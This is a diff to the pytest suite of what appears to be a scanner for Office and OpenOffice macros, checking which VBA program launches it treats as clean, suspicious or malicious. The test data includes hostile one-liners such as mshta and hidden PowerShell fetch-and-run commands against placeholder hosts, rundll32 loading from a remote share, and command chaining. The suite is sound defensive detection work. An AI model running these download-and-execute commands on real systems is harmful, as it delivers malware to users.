@@ -107,7 +107,7 @@ def test_tools_that_are_asked_for_stay_below_suspicious(body: str) -> None:
 
 # --- what they do ---------------------------------------------------------------------------------------------------
 
-_PROCESS = 'GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create "calc.exe", Null, Null, p'
+_PROCESS = 'GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create "tool.exe", Null, Null, p'
 _API = 'Private Declare PtrSafe Function {} Lib "{}" Alias "{}" (ByVal a As Long) As Long\n'
 
 
@@ -118,13 +118,13 @@ _OFFICE = "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings"
 @pytest.mark.parametrize(
     ("body", "when_asked", "by_itself"),
     [
-        ('Shell "calc.exe", 0', *_STARTS),
-        ('x = VBA.Shell("calc.exe")', *_STARTS),
-        ('CreateObject("WScript.Shell").Run "calc.exe"', *_STARTS),
-        ('CreateObject("Shell.Application").ShellExecute "calc.exe"', *_STARTS),
+        ('Shell "tool.exe", 0', *_STARTS),
+        ('x = VBA.Shell("tool.exe")', *_STARTS),
+        ('CreateObject("WScript.Shell").Run "tool.exe"', *_STARTS),
+        ('CreateObject("Shell.Application").ShellExecute "tool.exe"', *_STARTS),
         (_PROCESS, *_STARTS),
-        ('Set w = New WshShell\nCallByName CreateObject("WScript.Shell"), "Run", 1, "calc.exe"', *_STARTS),
-        ('Application.ExecuteExcel4Macro "EXEC(""calc.exe"")"', *_STARTS),
+        ('Set w = New WshShell\nCallByName CreateObject("WScript.Shell"), "Run", 1, "tool.exe"', *_STARTS),
+        ('Application.ExecuteExcel4Macro "EXEC(""tool.exe"")"', *_STARTS),
         ('Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")\nx.Open "GET", "http://a.example/", 0', "macro-uses-network",
          "macro-auto-uses-network"),
         ('Open "C:\\Users\\Public\\a.vbs" For Output As #1', "macro-writes-program", "macro-auto-writes-program"),
@@ -156,10 +156,85 @@ def test_deeds_by_themselves_and_when_asked(body: str, when_asked: str, by_itsel
         assert when_asked not in auto
 
 
+# --- what they open -------------------------------------------------------------------------------------------------
+
+OPENED = {
+    "a bare name": 'Shell "calc.exe", 1',
+    "an editor": 'Shell "notepad.exe " & ThisDocument.Path & "\\readme.txt"',
+    "a folder of the user": 'Shell "explorer.exe " & Environ("USERPROFILE")',
+    "a folder of the firm": 'Shell "explorer.exe \\\\files\\templates"',
+    "a page": 'CreateObject("WScript.Shell").Run "msedge https://intranet.example/help"',
+    "a program of the firm": 'Shell """C:\\Program Files\\Erp\\client.exe"" /open orders"',
+    "a program without quotes": 'Shell "C:\\Program Files (x86)\\Erp\\client.exe /open orders"',
+    "of the system by its path": 'Shell "C:\\Windows\\System32\\notepad.exe C:\\a.txt"',
+}
+ORDERED = {
+    "a shell": 'Shell "cmd /c dir"',
+    "an interpreter that is installed": 'Shell """C:\\Program Files\\PowerShell\\7\\pwsh.exe"" -c dir"',
+    "a loader": 'Shell "rundll32 C:\\Users\\Public\\a.dll,Run"',
+    "a program by way of a folder window": 'Shell "explorer.exe C:\\Users\\Public\\a.lnk"',
+    "a share of the internet": 'Shell "explorer.exe \\\\203.0.113.5@80\\a"',
+    "a program where anybody writes": 'Shell Environ("TEMP") & "\\a.exe"',
+    "a way out of the folder": 'Shell "C:\\Program Files\\..\\Users\\Public\\a.exe"',
+    "a name that only begins so": 'Shell "notepad.exe.scr"',
+    "a program of that name elsewhere": 'Shell "C:\\Users\\Public\\notepad.exe"',
+    "a browser under orders": 'Shell "msedge --headless https://a.example/"',
+    "more commands": 'Shell "notepad & a.bat"',
+    "an installed program with an address": 'Shell """C:\\Program Files\\Tool\\get.exe"" http://a.example/b"',
+    "what is not known": "Shell x(1)",
+    "what is put together": 'Shell Chr(99) & Chr(97) & Chr(108) & Chr(99) & ".exe"',
+}
+
+
+@pytest.mark.parametrize("name", OPENED)
+def test_an_ordinary_program_is_opened(name: str) -> None:
+    body = OPENED[name]
+    assert found(opening(body)) == {"macro-code", "macro-auto-start", "macro-auto-opens-program"}
+    assert found(asked(body)) == {"macro-code", "macro-opens-program"}
+    assert status(docm(opening(body))) is status(docm(asked(body))) is Status.CLEAN
+
+
+@pytest.mark.parametrize("name", ORDERED)
+def test_what_takes_orders_is_no_ordinary_program(name: str) -> None:
+    assert "macro-auto-starts-program" in found(opening(ORDERED[name]))
+    assert "macro-starts-program" in found(asked(ORDERED[name]))
+    assert status(docm(opening(ORDERED[name]))).rank >= Status.SUSPICIOUS.rank
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "net use K: \\\\files\\share",
+        "\\\\files\\tools\\update.bat",
+        "cmd /c xcopy /y \\\\files\\templates\\*.dotx C:\\Templates",
+    ],
+)
+def test_a_share_of_the_firm_is_no_download(command: str) -> None:
+    """One command is one act: strong, and not malicious for naming a server too."""
+    assert status(docm(opening(f'Shell "{command}"'))) is Status.SUSPICIOUS
+    assert status(docm(asked(f'Shell "{command}"'))) is Status.CLEAN
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "mshta http://203.0.113.9/a",
+        "powershell -w hidden -c iwr https://a.example/b -OutFile b.ps1; .\\b.ps1",
+        "cmd /c \\\\203.0.113.9\\a\\b.exe",
+        "rundll32 \\\\a.example@SSL\\b\\c.dll,Run",
+    ],
+)
+def test_a_command_with_an_address_outside_that_runs_by_itself_is_malicious(command: str) -> None:
+    assert status(docm(opening(f'Shell "{command}"'))) is Status.MALICIOUS
+    on_demand = found(asked(f'Shell "{command}"'))
+    assert {"macro-starts-program", "macro-uses-network"} <= on_demand
+    assert "macro-fetches-program" not in on_demand  # the engine of scripts says what the command does
+
+
 def test_what_is_called_by_an_automatic_procedure_is_automatic() -> None:
-    deep = opening("A 1", 'Sub A(x)\nApplication.Run "B"\nEnd Sub\nSub B()\nShell "calc.exe"\nEnd Sub\n')
+    deep = opening("A 1", 'Sub A(x)\nApplication.Run "B"\nEnd Sub\nSub B()\nShell "tool.exe"\nEnd Sub\n')
     assert "macro-auto-starts-program" in found(deep)
-    later = opening('Application.OnTime Now + TimeValue("00:00:05"), "B"', 'Sub B()\nShell "calc.exe"\nEnd Sub\n')
+    later = opening('Application.OnTime Now + TimeValue("00:00:05"), "B"', 'Sub B()\nShell "tool.exe"\nEnd Sub\n')
     assert "macro-auto-starts-program" in found(later)
 
 
@@ -179,11 +254,11 @@ def test_a_downloader_and_its_halves() -> None:
     assert "macro-fetches-program" in found(opening(fetch + 'Shell "C:\\b.exe"'))
     assert "macro-fetches-program" in found(opening('Shell "mshta http://a.example/b"'))
     assert "macro-fetches-program" not in found(opening(fetch))
-    assert "macro-fetches-program" not in found(opening('Shell "calc.exe"'))
+    assert "macro-fetches-program" not in found(opening('Shell "tool.exe"'))
 
 
 def test_a_control_that_is_drawn() -> None:
-    drawn = 'Sub InkPicture1_Painted(ByVal hDC As Long)\nShell "calc.exe"\nEnd Sub'
+    drawn = 'Sub InkPicture1_Painted(ByVal hDC As Long)\nShell "tool.exe"\nEnd Sub'
     assert {"macro-starts-when-drawn", "macro-auto-starts-program"} <= found(drawn)
     assert "macro-starts-when-drawn" not in found("Sub UserForm_Layout()\nx = 1\nEnd Sub")
     assert "macro-starts-when-drawn" not in found("Sub TextBox1_GotFocus()\nMe.Caption = 1\nEnd Sub")
@@ -199,7 +274,7 @@ def test_code_in_memory() -> None:
 
 
 def test_looking_around_before_it_acts() -> None:
-    guarded = opening('If Application.RecentFiles.Count < 3 Then Exit Sub\nShell "calc.exe"')
+    guarded = opening('If Application.RecentFiles.Count < 3 Then Exit Sub\nShell "tool.exe"')
     assert {"macro-looks-around", "macro-auto-starts-program"} <= found(guarded)
     assert "macro-looks-around" not in found(opening("x = Application.RecentFiles.Count"))
 
@@ -246,7 +321,7 @@ def test_hidden_commands_are_found(body: str, more: str) -> None:
     ],
 )
 def test_ordinary_joining_is_not_hiding(body: str) -> None:
-    more = 'Function Pick(x)\nIf x = "n" Then\nPick = "notepad.exe"\nElse\nPick = "calc.exe"\nEnd If\nEnd Function'
+    more = 'Function Pick(x)\nIf x = "n" Then\nPick = "notepad.exe"\nElse\nPick = "tool.exe"\nEnd If\nEnd Function'
     assert "macro-hides-what-it-does" not in found(asked(body, more))
 
 
@@ -297,7 +372,7 @@ def test_compiled_code_that_is_not_the_source() -> None:
 
 
 def test_openoffice_starts_what_it_is_bound_to() -> None:
-    outputs = look(engine.examine, odt('Sub Main\nShell("calc.exe", 0)\nEnd Sub'))
+    outputs = look(engine.examine, odt('Sub Main\nShell("tool.exe", 0)\nEnd Sub'))
     assert ids(outputs) == {"macro-code", "macro-auto-start", "macro-auto-starts-program"}
 
 
@@ -384,7 +459,7 @@ def test_any_words_end(words: list[str]) -> None:
 
 def test_in_the_cage_and_all_have_a_meaning() -> None:
     with Cage(at_once=1) as cage:
-        for data in (FULL, PROJECT, odt('Sub Main\nShell("calc.exe")\nEnd Sub')):
+        for data in (FULL, PROJECT, odt('Sub Main\nShell("tool.exe")\nEnd Sub')):
             with sheet(data) as fd:
                 outcome = cage.run(engine.ENGINE, fd, name="a", kind=identify(data, "a"))
             assert outcome.failed == "", outcome.detail
